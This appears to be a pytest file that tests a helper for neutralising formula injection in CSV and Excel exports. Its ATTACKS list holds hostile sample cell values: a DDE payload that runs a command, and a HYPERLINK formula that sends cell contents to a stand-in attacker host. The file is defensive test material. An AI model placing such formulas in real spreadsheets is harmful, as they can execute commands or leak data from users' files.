import csv
import io
from datetime import date
from decimal import Decimal

import openpyxl
import pytest

from core.exports.formula_safety import safe_cell, safe_row

ATTACKS = [
    "=cmd|' /C calc'!A0",
    "=HYPERLINK(\"http://evil.example/?\"&A1,\"点击领奖\")",
    "+1+1",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("text", ATTACKS)
def test_text_that_would_start_a_formula_is_written_as_text(text):
    assert safe_cell(text) == "'" + text


@pytest.mark.parametrize("value", ["张三", "团队 A", "", "1+1", "a=b", "'=already quoted", " =1"])
def test_ordinary_text_is_unchanged(value):
    assert safe_cell(value) == value


@pytest.mark.parametrize("value", [0, -5, 3.5, Decimal("-1.25"), True, None, date(2026, 11, 29)])
def test_numbers_dates_and_empty_cells_stay_what_they_are(value):
    assert safe_cell(value) is value


def test_safe_row():
    assert safe_row(["=1+1", 12, "王五"]) == ["'=1+1", 12, "王五"]


def test_in_an_excel_file_the_attack_is_a_string_not_a_formula(tmp_path):
    book = openpyxl.Workbook()
    sheet = book.active
    for text in ATTACKS:
        sheet.append(safe_row([text, -3]))
    path = tmp_path / "export.xlsx"
    book.save(path)
    reread = openpyxl.load_workbook(path).active
    for row, text in zip(reread.iter_rows(values_only=False), ATTACKS):
        # (The XML stores a carriage return as a newline, hence only the start is compared.)
        assert row[0].data_type == "s" and row[0].value[0] == "'" and row[0].value[2:] == text[1:]
        assert row[1].value == -3
    # Without it, openpyxl would have stored the first attack as a formula.
    unsafe = openpyxl.Workbook().active
    unsafe.append([ATTACKS[0]])
    assert unsafe["A1"].data_type == "f"


def test_in_a_csv_file_every_attack_starts_with_an_apostrophe():
    buffer = io.StringIO()
    writer = csv.writer(buffer)
    for text in ATTACKS:
        writer.writerow(safe_row([text]))
    for row in csv.reader(io.StringIO(buffer.getvalue())):
        assert row[0].startswith("'")
